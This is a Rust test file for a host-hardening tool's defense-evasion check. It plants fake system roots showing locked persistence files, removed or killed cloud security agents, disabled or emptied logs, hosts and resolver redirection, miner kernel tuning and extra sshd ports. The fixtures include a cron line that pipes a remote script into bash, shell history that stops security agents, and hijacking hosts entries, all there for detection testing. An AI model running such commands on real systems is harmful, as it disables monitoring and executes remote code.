//! The defense-evasion check on planted roots: inode flags set by `chattr` (compared with
//! `lsattr`), cloud agents in each state, kill commands, logging switched off, emptied logs,
//! hosts/resolver redirection, miner kernel tuning, and sshd's extra ports.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use ferret_core::{Control, Finding, HostRoot, Severity};
use ferret_harden::{audit_root, Check, HardenOptions};
use ferret_testkit::flags::{chattr, lsattr, FlagDir};
use std::path::Path;

use ferret_testkit::put as w;
use ferret_testkit::put_link as link;

fn run(root: &Path, check: Check) -> Vec<Finding> {
    let mut o = HardenOptions::default();
    o.checks = vec![check];
    let out = audit_root(&HostRoot::new(root).unwrap(), &o, &Control::new());
    out.findings
}

fn with_id<'a>(f: &'a [Finding], id: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.id == id).collect()
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n";

#[test]
fn immutable_persistence_files_match_lsattr() {
    let Some(dir) = FlagDir::new() else { return };
    let t = dir.path();
    w(t, "/etc/passwd", PASSWD);
    w(t, "/etc/group", "root:x:0:\n");
    w(t, "/etc/hosts", "127.0.0.1 localhost\n");
    w(t, "/etc/cron.d/job", "* * * * * root true\n");
    w(t, "/home/alice/.ssh/authorized_keys", "\n");
    w(t, "/root/.bashrc", "alias ll='ls -l'\n");
    w(t, "/srv/data.bin", "not persistence\n");
    // (path, chattr mode)
    let locked = [
        ("/etc/passwd", "+i"),
        ("/etc/cron.d/job", "+a"),
        ("/home/alice/.ssh/authorized_keys", "+ia"),
        ("/home/alice/.ssh", "+i"),
        ("/srv/data.bin", "+i"),
    ];
    for (p, m) in locked {
        chattr(m, &t.join(p.trim_start_matches('/')));
    }
    let f = run(t, Check::Evasion);
    let hits = with_id(&f, "evasion.immutable-file");
    let mut subjects: Vec<&str> = hits.iter().map(|h| h.subject.as_str()).collect();
    subjects.sort_unstable();
    // Every locked persistence file once; /srv is not a persistence location.
    let mut want: Vec<&str> = locked
        .iter()
        .map(|(p, _)| *p)
        .filter(|p| !p.starts_with("/srv"))
        .collect();
    want.sort_unstable();
    assert_eq!(subjects, want);
    for h in hits {
        assert_eq!(h.severity, Severity::High);
        assert_eq!(h.attack, ["T1222.002"]);
        let lsa = lsattr(&t.join(h.subject.trim_start_matches('/')));
        assert!(
            h.detail.as_deref().unwrap().contains(&lsa),
            "{}: {:?} vs lsattr {lsa}",
            h.subject,
            h.detail
        );
        let (i, a) = (lsa.contains('i'), lsa.contains('a'));
        assert_eq!(h.title.contains("immutable"), i, "{}", h.title);
        assert_eq!(h.title.contains("append-only"), a, "{}", h.title);
    }
}

#[test]
fn cloud_agents_disabled_removed_and_killed() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    w(t, "/etc/passwd", PASSWD);
    // aegis installed but its unit masked (an image: processes are not looked at).
    w(t, "/usr/local/aegis/aegis_client", "ELF");
    link(t, "/etc/systemd/system/aegis.service", "/dev/null");
    // CloudMonitor installed and not masked: nothing to say on an image.
    w(t, "/usr/local/cloudmonitor/bin/argusagent", "ELF");
    // YunJing removed, half: its directory and init script are left.
    w(t, "/usr/local/qcloud/YunJing/conf/client.conf", "x\n");
    w(t, "/etc/init.d/YDService", "#!/bin/sh\n");
    // HSS removed, its package entry left.
    w(
        t,
        "/var/lib/dpkg/status",
        "Package: bash\nStatus: install ok installed\n\nPackage: hostguard\nStatus: install ok installed\n",
    );
    // The commands that did it.
    w(
        t,
        "/etc/cron.d/clean",
        "SHELL=/bin/sh\n*/5 * * * * root curl -sSL http://update.aegis.aliyun.com/download/uninstall.sh | bash\n0 * * * * root run-parts /etc/cron.hourly\n",
    );
    w(
        t,
        "/root/.bash_history",
        "ls\nsystemctl stop aegis\n/usr/local/qcloud/YunJing/uninst.sh\ncat /etc/passwd\n",
    );
    let f = run(t, Check::Evasion);
    let subj = |id: &str| -> Vec<String> {
        let mut v: Vec<String> = with_id(&f, id).iter().map(|x| x.subject.clone()).collect();
        v.sort();
        v
    };
    assert_eq!(subj("evasion.agent-disabled"), ["aliyun-aegis"]);
    assert_eq!(
        subj("evasion.agent-removed"),
        ["huawei-hss", "tencent-yunjing"]
    );
    assert!(subj("evasion.agent-running").is_empty());
    let yj = with_id(&f, "evasion.agent-removed")
        .into_iter()
        .find(|x| x.subject == "tencent-yunjing")
        .unwrap();
    let paths: Vec<&str> = yj.evidence.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(
        paths,
        ["/usr/local/qcloud/YunJing", "/etc/init.d/YDService"]
    );
    let hss = with_id(&f, "evasion.agent-removed")
        .into_iter()
        .find(|x| x.subject == "huawei-hss")
        .unwrap();
    assert_eq!(hss.evidence[0].path, "/var/lib/dpkg/status");
    assert_eq!(hss.evidence[0].line, Some(4));
    // One finding per file, its lines as evidence.
    let kills = with_id(&f, "evasion.agent-kill-command");
    let mut per_file: Vec<(String, Vec<u64>)> = kills
        .iter()
        .map(|k| {
            (
                k.subject.clone(),
                k.evidence.iter().map(|e| e.line.unwrap()).collect(),
            )
        })
        .collect();
    per_file.sort();
    assert_eq!(
        per_file,
        [
            ("/etc/cron.d/clean".to_owned(), vec![2]),
            ("/root/.bash_history".to_owned(), vec![2, 3]),
        ]
    );
    // Nothing for a root without any agent.
    let clean = tempfile::tempdir().unwrap();
    w(clean.path(), "/etc/passwd", PASSWD);
    assert!(run(clean.path(), Check::Evasion).is_empty());
}

#[test]
fn logging_switched_off() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    link(t, "/etc/systemd/system/auditd.service", "/dev/null");
    w(t, "/etc/systemd/journald.conf", "[Journal]\nStorage=auto\n");
    w(
        t,
        "/etc/systemd/journald.conf.d/zz.conf",
        "[Journal]\n#Storage=auto\nStorage=none\n",
    );
    w(
        t,
        "/etc/rsyslog.d/50-x.conf",
        "# quiet\nauth,authpriv.* /dev/null\nkern.* -/var/log/kern.log\n",
    );
    w(
        t,
        "/etc/audit/auditd.conf",
        "log_file = /var/log/audit/audit.log\n",
    );
    link(t, "/var/log/auth.log", "/dev/null");
    let f = run(t, Check::Evasion);
    let mut got: Vec<(String, Option<u64>)> = with_id(&f, "evasion.logging-disabled")
        .iter()
        .map(|x| (x.evidence[0].path.clone(), x.evidence[0].line))
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            ("/etc/rsyslog.d/50-x.conf".to_owned(), Some(2)),
            ("/etc/systemd/journald.conf.d/zz.conf".to_owned(), Some(3)),
            ("/etc/systemd/system/auditd.service".to_owned(), None),
            ("/var/log/auth.log".to_owned(), None),
        ]
    );
    // A later drop-in that turns storage back on wins.
    w(
        t,
        "/run/systemd/journald.conf.d/zzz.conf",
        "[Journal]\nStorage=persistent\n",
    );
    let f = run(t, Check::Evasion);
    assert!(!f.iter().any(|x| x.title.contains("Storage=none")));
}

#[test]
fn emptied_logs_but_not_rotation() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    w(t, "/var/log/syslog", "Jan  1 00:00:00 host x: y\n");
    // Rotated just now: auth.log.1 renamed, a new empty auth.log.
    w(t, "/var/log/auth.log.1", "old\n");
    w(t, "/var/log/auth.log", "");
    // Emptied: written, then truncated a moment later, no rotated copy.
    w(
        t,
        "/var/log/secure",
        "Jan  1 sshd[1]: Accepted password for root\n",
    );
    // `echo > /var/log/messages`, as miner scripts clear logs: one newline is left.
    w(
        t,
        "/var/log/messages",
        "Jan  1 00:00:00 host kernel: diamorphine: loading out-of-tree module taints kernel.\n",
    );
    std::thread::sleep(std::time::Duration::from_millis(1100));
    std::fs::File::create(t.join("var/log/secure")).unwrap();
    std::fs::write(t.join("var/log/messages"), "\n").unwrap();
    let f = run(t, Check::Evasion);
    let e = with_id(&f, "evasion.log-emptied");
    assert_eq!(
        e.iter().map(|x| x.subject.as_str()).collect::<Vec<_>>(),
        ["/var/log/messages", "/var/log/secure"]
    );
    assert_eq!(e[0].attack, ["T1070.002"]);
}

#[test]
fn hosts_and_resolver() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    w(
        t,
        "/etc/hosts",
        "127.0.0.1 localhost\n\
         169.254.169.254 metadata.google.internal\n\
         10.9.9.9 metadata.google.internal # hijacked\n\
         127.0.0.1 update.aegis.aliyun.com\n\
         10.0.0.5 deb.debian.org\n\
         45.9.148.1 pool.supportxmr.com\n\
         192.168.1.4 fileserver\n",
    );
    w(
        t,
        "/etc/resolv.conf",
        "nameserver 127.0.0.53\nnameserver 100.100.2.136\nnameserver 8.8.8.8\noptions edns0\n",
    );
    let f = run(t, Check::Evasion);
    let mut hosts: Vec<(u64, &str, Severity)> = f
        .iter()
        .filter(|x| x.id.starts_with("evasion.hosts-"))
        .map(|x| (x.evidence[0].line.unwrap(), x.id.as_str(), x.severity))
        .collect();
    hosts.sort();
    assert_eq!(
        hosts,
        [
            (3, "evasion.hosts-redirect", Severity::High),
            (4, "evasion.hosts-redirect", Severity::High),
            (5, "evasion.hosts-redirect", Severity::Medium),
            (6, "evasion.hosts-mining-pool", Severity::High),
        ]
    );
    let r = with_id(&f, "evasion.resolver-unexpected");
    assert_eq!(r.len(), 1);
    assert_eq!(r[0].evidence.len(), 1);
    assert_eq!(r[0].evidence[0].line, Some(3));
    assert!(r[0].title.contains("8.8.8.8"));
    for a in [
        "127.0.0.53",
        "::1",
        "10.1.2.3",
        "100.125.1.250",
        "fe80::1%eth0",
        "183.60.83.19",
    ] {
        assert!(ferret_harden::evasion::expected_resolver(a), "{a}");
    }
    for a in ["8.8.8.8", "1.1.1.1", "2001:4860:4860::8888", "resolver"] {
        assert!(!ferret_harden::evasion::expected_resolver(a), "{a}");
    }
}

#[test]
fn miner_kernel_tuning() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    w(
        t,
        "/etc/sysctl.d/99-xmrig.conf",
        "vm.nr_hugepages=1280\nkernel.nmi_watchdog = 0\n",
    );
    w(t, "/etc/modules-load.d/cpu.conf", "# cpu\nmsr\n");
    let f = run(t, Check::Evasion);
    let mut got: Vec<(&str, String, Option<u64>)> = with_id(&f, "evasion.miner-tuning")
        .iter()
        .map(|x| {
            (
                x.subject.as_str(),
                x.evidence[0].path.clone(),
                x.evidence[0].line,
            )
        })
        .collect();
    got.sort();
    let sev = |s: &str| f.iter().find(|x| x.subject == s).unwrap().severity;
    assert_eq!(sev("kernel.nmi_watchdog"), Severity::Low);
    assert_eq!(sev("vm.nr_hugepages"), Severity::Medium);
    assert_eq!(sev("msr"), Severity::Medium);
    assert_eq!(
        got,
        [
            (
                "kernel.nmi_watchdog",
                "/etc/sysctl.d/99-xmrig.conf".to_owned(),
                Some(2)
            ),
            ("msr", "/etc/modules-load.d/cpu.conf".to_owned(), Some(2)),
            (
                "vm.nr_hugepages",
                "/etc/sysctl.d/99-xmrig.conf".to_owned(),
                Some(1)
            ),
        ]
    );
    // A small reservation is no miner's.
    w(t, "/etc/sysctl.d/99-xmrig.conf", "vm.nr_hugepages=64\n");
    std::fs::remove_file(t.join("etc/modules-load.d/cpu.conf")).unwrap();
    assert!(with_id(&run(t, Check::Evasion), "evasion.miner-tuning").is_empty());
}

#[test]
fn sshd_extra_ports() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    w(
        t,
        "/etc/ssh/sshd_config",
        "Port 22\nPort 2222\nListenAddress 0.0.0.0:2200\nListenAddress [::]\n",
    );
    let f = run(t, Check::Sshd);
    let p = with_id(&f, "sshd.extra-port");
    assert_eq!(p.len(), 1);
    assert!(p[0]
        .detail
        .as_deref()
        .unwrap()
        .contains("Ports 22, 2200, 2222"));
    assert_eq!(p[0].evidence[0].line, Some(1));
    assert_eq!(with_id(&f, "sshd.listen-address").len(), 1);
    // The default port alone: nothing.
    w(t, "/etc/ssh/sshd_config", "Port 22\n");
    let f = run(t, Check::Sshd);
    assert!(with_id(&f, "sshd.extra-port").is_empty());
    assert!(with_id(&f, "sshd.listen-address").is_empty());
}

#[test]
fn live_agents_match_proc() {
    // On the live system an agent is "running" exactly when /proc has one of its names.
    let f = run(Path::new("/"), Check::Evasion);
    let mut comms = std::collections::BTreeSet::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(c) = std::fs::read_to_string(e.path().join("comm")) {
            comms.insert(c.trim_end().to_owned());
        }
    }
    for a in ferret_harden::evasion::AGENTS {
        let runs = a.processes.iter().any(|p| comms.contains(*p));
        let reported = f
            .iter()
            .any(|x| x.id == "evasion.agent-running" && x.subject == a.id);
        assert_eq!(runs, reported, "{}", a.id);
    }
}

#[test]
fn resolver_behind_a_symlink() {
    let t = tempfile::tempdir().unwrap();
    let t = t.path();
    w(
        t,
        "/run/systemd/resolve/resolv.conf",
        "nameserver 9.9.9.9\n",
    );
    link(t, "/etc/resolv.conf", "../run/systemd/resolve/resolv.conf");
    let f = run(t, Check::Evasion);
    let r = with_id(&f, "evasion.resolver-unexpected");
    assert_eq!(r.len(), 1);
    assert_eq!(r[0].evidence[0].path, "/run/systemd/resolve/resolv.conf");
    // The local stub behind the same link: nothing.
    w(
        t,
        "/run/systemd/resolve/resolv.conf",
        "nameserver 127.0.0.53\n",
    );
    assert!(run(t, Check::Evasion).is_empty());
}
